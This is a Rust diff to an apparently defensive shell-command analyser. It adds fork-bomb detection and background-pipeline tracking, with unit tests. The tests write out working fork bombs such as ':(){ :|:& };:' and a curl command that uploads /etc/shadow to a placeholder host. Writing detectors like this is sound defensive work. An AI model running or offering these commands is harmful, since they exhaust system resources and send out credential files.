@@ -7,6 +7,8 @@
 use super::paths::{mentions_escape, mentions_mining, normalize};
 use super::value::UNKNOWN_PART;
 
+mod functions;
+
 /// What a command line does, as far as the rules care.
 #[derive(Debug, Default, Clone, PartialEq, Eq)]
 pub struct CommandFacts {
@@ -35,6 +37,9 @@ pub struct CommandFacts {
     pub downloads: Vec<String>,
     /// Python code given inline (`python3 -c CODE`), to be analysed as Python.
     pub python_sources: Vec<String>,
+    /// Defines a shell function that runs itself twice, or in a pipe or the background
+    /// (`:(){ :|:& };:`).
+    pub fork_bomb: bool,
 }
 
 /// How deep `sh -c "sh -c ..."` is followed.
@@ -52,12 +57,13 @@ fn analyse_into(line: &str, depth: u32, facts: &mut CommandFacts) {
     }
     facts.reverse_shell |= line.contains("/dev/tcp/") || line.contains("/dev/udp/");
     facts.mining |= mentions_mining(line);
+    facts.fork_bomb |= functions::defines_fork_bomb(line);
     for pipeline in split_pipelines(line) {
         let mut fetched = false;
         let mut decoded = false;
         let mut shell_in_pipe = false;
         let mut network_in_pipe = false;
-        for command in pipeline {
+        for command in pipeline.commands {
             let simple = Simple::new(&command);
             simple.check(depth, facts);
             if fetched && simple.runs_code() || simple.runs_one_of(&facts.downloads) {
@@ -81,7 +87,7 @@ fn analyse_into(line: &str, depth: u32, facts: &mut CommandFacts) {
 pub fn runs_downloaded(line: &str, downloads: &[String]) -> (bool, bool) {
     let (mut named, mut unknown) = (false, false);
     for pipeline in split_pipelines(line) {
-        for command in pipeline {
+        for command in pipeline.commands {
             let simple = Simple::new(&command);
             named |= simple.runs_one_of(downloads) && simple.name != "chmod";
             unknown |= simple.name.is_empty() && !command.is_empty()
@@ -100,10 +106,25 @@ enum Token {
     ReadFrom(String),
 }
 
+/// One pipeline: its commands, and whether it runs in the background (ends in `&`).
+struct Pipeline {
+    commands: Vec<Vec<Token>>,
+    background: bool,
+}
+
+impl Pipeline {
+    fn new() -> Pipeline {
+        Pipeline {
+            commands: vec![Vec::new()],
+            background: false,
+        }
+    }
+}
+
 /// Splits on `;`, `&`, `&&`, `||`, newlines and `$(`/backticks into pipelines, and each
 /// pipeline on `|` into commands of tokens. Quotes group words and are removed.
-fn split_pipelines(line: &str) -> Vec<Vec<Vec<Token>>> {
-    let mut pipelines = vec![vec![Vec::new()]];
+fn split_pipelines(line: &str) -> Vec<Pipeline> {
+    let mut pipelines = vec![Pipeline::new()];
     let mut word = String::new();
     let mut quote: Option<char> = None;
     let mut redirect: Option<bool> = None; // Some(true) for `>`, Some(false) for `<`
@@ -147,18 +168,20 @@ fn split_pipelines(line: &str) -> Vec<Vec<Vec<Token>>> {
             {
                 flush(&mut word, &mut redirect, &mut pipelines);
                 let pipe = c == '|' && chars.peek() != Some(&'|');
+                let background = c == '&' && !matches!(chars.peek(), Some('&' | '>'));
                 if c == '|' || c == '&' {
                     chars.next_if_eq(&c);
                 }
                 if c == '$' {
                     chars.next();
                 }
-                if pipe {
-                    if let Some(pipeline) = pipelines.last_mut() {
-                        pipeline.push(Vec::new());
+                match pipelines.last_mut() {
+                    Some(pipeline) if pipe => pipeline.commands.push(Vec::new()),
+                    Some(pipeline) => {
+                        pipeline.background = background;
+                        pipelines.push(Pipeline::new());
                     }
-                } else {
-                    pipelines.push(vec![Vec::new()]);
+                    None => {}
                 }
             }
             _ => word.push(c),
@@ -168,7 +191,7 @@ fn split_pipelines(line: &str) -> Vec<Vec<Vec<Token>>> {
     pipelines
 }
 
-fn flush(word: &mut String, redirect: &mut Option<bool>, pipelines: &mut [Vec<Vec<Token>>]) {
+fn flush(word: &mut String, redirect: &mut Option<bool>, pipelines: &mut [Pipeline]) {
     if word.is_empty() {
         return;
     }
@@ -178,7 +201,7 @@ fn flush(word: &mut String, redirect: &mut Option<bool>, pipelines: &mut [Vec<Ve
         Some(false) => Token::ReadFrom(text),
         None => Token::Word(text),
     };
-    if let Some(command) = pipelines.last_mut().and_then(|p| p.last_mut()) {
+    if let Some(command) = pipelines.last_mut().and_then(|p| p.commands.last_mut()) {
         command.push(token);
     }
 }
@@ -628,6 +651,24 @@ mod tests {
         // curl -F file=@/etc/shadow reads the file it uploads.
         assert!(analyse("curl -F file=@/etc/shadow https://x/").secret_read);
         assert!(!analyse("curl -F file=@report.pdf https://x/").secret_read);
+    }
+
+    #[test]
+    fn functions_that_run_themselves_twice_or_in_the_background_are_fork_bombs() {
+        // The classic `:(){ :|:& };:` and its renamings, spacings, the `function`
+        // keyword and a subshell body; a function called twice from outside, or calling
+        // itself once in the foreground, is not one, nor is the text inside quotes.
+        assert!(analyse(":(){ :|:& };:").fork_bomb);
+        assert!(analyse("bomb(){ bomb|bomb & }; bomb").fork_bomb);
+        assert!(analyse("f() { f & f; }; f").fork_bomb);
+        assert!(analyse("function boom { boom | boom & }; boom").fork_bomb);
+        assert!(analyse("function x() {\n  x &\n  x &\n}\nx").fork_bomb);
+        assert!(analyse("z() ( z | z & ); z").fork_bomb);
+        assert!(analyse("bash -c ':(){ :|:& };:'").fork_bomb);
+        assert!(!analyse("greet() { echo hi; }; greet; greet").fork_bomb);
+        assert!(!analyse("retry() { make || retry; }; retry").fork_bomb);
+        assert!(!analyse("echo ':(){ :|:& };:' > notes.txt").fork_bomb);
+        assert!(!analyse("sleep 5 & wait").fork_bomb);
     }
 
     #[test]
